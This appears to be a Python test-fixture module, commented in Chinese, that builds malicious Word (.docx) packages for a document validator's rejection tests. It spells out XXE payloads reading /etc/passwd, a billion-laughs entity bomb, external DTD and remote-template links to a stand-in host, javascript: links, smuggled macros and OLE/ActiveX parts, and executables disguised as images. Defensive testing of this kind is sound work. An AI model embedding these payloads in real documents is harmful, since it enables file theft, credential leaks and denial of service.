"""压缩包完好而内容有害的文件：实体、宏、夹带、外链、域、编码、关系。"""

import random

from appeals.documents.package import CONTENT_TYPES, DOCUMENT, RELATIONSHIPS, read_parts
from doc_templates.base import WORD_TYPE
from doc_templates.blocks import body
from doc_templates.pages import OFFICE
from tests.documents.hostile.fields import FIELDS
from tests.documents.hostile.making import (
    GOOD,
    MEGABYTE,
    Hostile,
    archive,
    changed,
    document,
    honest,
    picture,
    replaced,
    smuggling,
)

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<!DOCTYPE d [<!ENTITY l0 "哈">{LAUGHS}]><d>&l9;</d>'
XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
DTD = '<!DOCTYPE d SYSTEM "http://192.0.2.1/evil.dtd"><d/>'
PARAMETER = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]><d/>'
DRAWING = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">{}</v:shape>'
PICT = DRAWING + "</w:pict></w:r></w:p>"
OFFICE_VML = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
VIDEO = (
    '<w:p><w:r><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/'
    'wordprocessingDrawing" embeddedHtml="&lt;iframe/&gt;"/></w:r></w:p>'
)
FONT = "application/vnd.openxmlformats-officedocument.obfuscatedFont"
LOOP = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="a" Type="{OFFICE}/document" Target="document.xml"/></Relationships>'
)


def long_text(megabytes: int) -> str:
    """Return 压得下几十倍的长文字。"""
    block = random.Random(2).randbytes(700).hex() + "长" * 20_000
    return block * (megabytes * MEGABYTE // len(block.encode()))


def looping() -> bytes:
    return archive(honest({**read_parts(GOOD), "word/_rels/footer1.xml.rels": LOOP.encode()}))


def retyped(old: str, new: str) -> bytes:
    return replaced(old, new, CONTENT_TYPES)


def without(name: str) -> bytes:
    parts = read_parts(GOOD)
    del parts[name]
    return archive(honest(parts))


def encoded(encoding: str, declared: str = "") -> bytes:
    parts = read_parts(GOOD)
    text = parts[DOCUMENT].decode().replace("UTF-8", declared or encoding)
    return archive(honest({**parts, DOCUMENT: text.encode(encoding)}))


def smuggled(name: str, kind: str, relation: str) -> bytes:
    return smuggling(name, b"<x/>", kind, relation)


def smuggling_by(declared: str) -> bytes:
    parts = read_parts(replaced("</Types>", f"{declared}</Types>", CONTENT_TYPES))
    return archive(honest({**parts, "word/a.bin": b"\x89PNG\r\n\x1a\n"}))


def linked(relation: str, target: str) -> bytes:
    return smuggling("", b"", "", relation, external=target)


def inserted(xml: str) -> Hostile:
    return Hostile(lambda: document(body("文") + xml), "不收|只收|文件之外")


ENTITIES = {
    "外部实体": Hostile(lambda: changed(word__document_xml=XXE), "DOCTYPE"),
    "亿万大笑": Hostile(lambda: changed(word__document_xml=BILLION), "DOCTYPE"),
    "外部 DTD": Hostile(lambda: changed(word__styles_xml=DTD), "DOCTYPE"),
    "参数实体": Hostile(lambda: changed(word__settings_xml=PARAMETER), "DOCTYPE"),
    "关系里的实体": Hostile(
        lambda: replaced("<Relationships", f"{DTD[:-4]}<Relationships", RELATIONSHIPS), "DOCTYPE"
    ),
    "没声明的实体": Hostile(lambda: document(body("&evil;").replace("&amp;", "&")), "残缺"),
    "UTF-16 的实体": Hostile(
        lambda: changed(word__document_xml=XXE.encode("utf-16")), "不是 UTF-8"
    ),
    "UTF-16 的正文": Hostile(lambda: encoded("utf-16"), "不是 UTF-8"),
    "谎称 GB2312": Hostile(lambda: encoded("utf-8", "GB2312"), "不是 UTF-8"),
    "UTF-7 的正文": Hostile(lambda: encoded("utf-7"), "不是 UTF-8"),
    "不成 UTF-8": Hostile(lambda: replaced("文", b"\xc0\xae\xff"), "残缺"),
    "空字符": Hostile(lambda: replaced("文", b"\0"), "不是 UTF-8"),
    "没结束的正文": Hostile(lambda: replaced("</w:body>", ""), "残缺"),
    "空的正文": Hostile(lambda: changed(word__document_xml=b""), "残缺"),
    "两个根": Hostile(lambda: replaced("</w:document>", "</w:document><x/>"), "残缺"),
    "嵌套五千层": Hostile(lambda: document("<w:sdt>" * 5000 + "</w:sdt>" * 5000), "嵌套超过"),
    "六十万个元素": Hostile(
        lambda: document(body("文").join(["<w:p/>" * 200_000] * 4)), "零碎|压缩得异常"
    ),
    "六十万个属性": Hostile(
        lambda: document(
            "<w:p>" + "".join(f'<w:r a{n}="{n}"/>' for n in range(300_000)) + "</w:p>"
        ),
        "零碎",
    ),
    "正文太大": Hostile(lambda: document(body(long_text(33))), "文字部分超过"),
    "三十兆的注释": Hostile(lambda: document(body("文") + f"<!--{long_text(30)}-->"), "过长"),
    "三十兆的属性": Hostile(lambda: document(f'<w:p w:a="{long_text(30)}"/>'), "过长"),
    "三十条一兆的注释": Hostile(
        lambda: document(f"<!--{long_text(1)[:-9999]}-->" * 31 + "<w:p>"), "残缺"
    ),
    "长而末尾残缺的正文": Hostile(lambda: document(body(long_text(30)) + "<w:p>"), "残缺"),
}

SMUGGLED = {
    "宏": Hostile(
        lambda: smuggled(
            "word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "vbaProject"
        ),
        "含有宏",
    ),
    "改名的宏": Hostile(
        lambda: smuggled("word/a.xml", "application/vnd.ms-office.vbaProject", "styles"), "含有宏"
    ),
    "宏冒充图片": Hostile(lambda: smuggled("word/a.png", "image/png", "vbaProject"), "含有宏"),
    "docm 改名": Hostile(
        lambda: retyped(
            f"{WORD_TYPE}.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "含有宏",
    ),
    "dotx 改名": Hostile(
        lambda: retyped(".document.main+xml", ".template.main+xml"), "是 Word 模板"
    ),
    "xlsx 改名": Hostile(
        lambda: retyped("wordprocessingml.document.main", "spreadsheetml.sheet.main"), "是 Excel"
    ),
    "pptx 改名": Hostile(
        lambda: retyped("wordprocessingml.document.main", "presentationml.presentation.main"),
        "幻灯片",
    ),
    "样式冒充正文": Hostile(
        lambda: retyped("wordprocessingml.document.main", "wordprocessingml.styles"), "正文的类型"
    ),
    "OLE 部件": Hostile(
        lambda: smuggled(
            "word/embeddings/o.bin",
            "application/vnd.openxmlformats-officedocument.oleObject",
            "oleObject",
        ),
        "OLE",
    ),
    "OLE 冒充图片": Hostile(lambda: picture(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "不是图片"),
    "OLE 元素": inserted("<w:p><w:r><w:object/></w:r></w:p>"),
    "OLE 链接": inserted(
        PICT.format(f'<o:OLEObject {OFFICE_VML} Type="Link" UpdateMode="Always"/>')
    ),
    "ActiveX 部件": Hostile(
        lambda: smuggled(
            "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "control"
        ),
        "ActiveX",
    ),
    "ActiveX 元素": inserted('<w:p><w:r><w:control w:name="a"/></w:r></w:p>'),
    "嵌入的工作簿": Hostile(
        lambda: smuggled(
            "word/a.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "package",
        ),
        "OLE",
    ),
    "外来文档块": Hostile(lambda: smuggled("word/a.html", "text/html", "aFChunk"), "外来文档"),
    "外来文档元素": inserted("<w:altChunk/>"),
    "子文档": inserted("<w:subDoc/>"),
    "加载项": Hostile(
        lambda: smuggled(
            "word/webextensions/a.xml", "application/vnd.ms-office.webextension+xml", "webextension"
        ),
        "加载项",
    ),
    "自定义功能区": Hostile(
        lambda: smuggled("customUI/a.xml", "application/xml", "extensibility"), "加载项"
    ),
    "联机视频": inserted(VIDEO),
    "矢量图": Hostile(lambda: smuggled("word/media/a.svg", "image/svg+xml", "image"), "SVG"),
    "网页冒充图片": Hostile(lambda: picture(b"<svg onload='x'/>"), "不是图片"),
    "程序冒充图片": Hostile(lambda: picture(b"MZ\x90\x00"), "不是图片"),
    "没登记的部件": Hostile(lambda: changed(evil="MZ"), "没登记类型"),
    "邮件合并": Hostile(
        lambda: replaced("<w:zoom", "<w:mailMerge/><w:zoom", "word/settings.xml"), "邮件合并"
    ),
    "外挂模板元素": Hostile(
        lambda: replaced("<w:zoom", "<w:attachedTemplate/><w:zoom", "word/settings.xml"),
        "外挂的模板",
    ),
}

LINKS = {
    "外挂模板": Hostile(
        lambda: linked("attachedTemplate", "http://192.0.2.1/a.dotm"), "外挂的模板"
    ),
    "外部图片": Hostile(lambda: linked("image", "http://192.0.2.1/a.png"), "文件之外"),
    "共享文件夹的图片": Hostile(lambda: linked("image", "//192.0.2.1/a/b.png"), "文件之外"),
    "本机文件的链接": Hostile(lambda: linked("hyperlink", "file:///etc/passwd"), "只收网页"),
    "脚本链接": Hostile(lambda: linked("hyperlink", "javascript:alert(1)"), "只收网页"),
    "外部样式": Hostile(lambda: linked("styles", "http://192.0.2.1/s.xml"), "文件之外"),
    "框架网页": Hostile(lambda: linked("frame", "http://192.0.2.1/"), "框架网页"),
    "VML 外部图片": inserted(PICT.format('<v:imagedata src="\\\\192.0.2.1\\a.png"/>')),
    "VML 网上图片": inserted(PICT.format('<v:imagedata src="http://192.0.2.1/a.png"/>')),
    "VML 网上底纹": inserted(
        PICT.format(f'<v:fill {OFFICE_VML} o:href="http://192.0.2.1/a.png"/>')
    ),
    "VML 链接": inserted(PICT.format('<v:rect href="file:///c:/a.exe"/>')),
    "关系冒充字体": Hostile(
        lambda: retyped(
            "</Types>", f'<Override PartName="/{RELATIONSHIPS}" ContentType="{FONT}"/></Types>'
        ),
        "用处与类型不合",
    ),
    "别家命名空间的类型": Hostile(
        lambda: smuggling_by(
            "<x:Override xmlns:x='urn:x' PartName='/word/a.bin' ContentType='image/png'/>"
        ),
        "没登记类型",
    ),
    "绕圈的关系": Hostile(looping, "绕成了圈"),
    "关系重号": Hostile(lambda: replaced("rIdTheme", "rIdStyles", RELATIONSHIPS), "两条编号"),
    "两个正文": Hostile(
        lambda: replaced(
            'Id="rIdExtended"',
            f'Id="b" Type="{OFFICE}/officeDocument" Target="word/styles.xml"/>'
            '<Relationship Id="rIdExtended"',
            "_rels/.rels",
        ),
        "里面没有正文",
    ),
    "正文当图片": Hostile(
        lambda: replaced(f"{OFFICE}/styles", f"{OFFICE}/image", RELATIONSHIPS), "用处与类型不合"
    ),
    "类型登记两次": Hostile(
        lambda: retyped(
            "</Types>", '<Override PartName="/WORD/document.xml" ContentType="image/png"/></Types>'
        ),
        "两种类型",
    ),
}

CONTENTS: dict[str, Hostile] = {**ENTITIES, **SMUGGLED, **LINKS, **FIELDS}
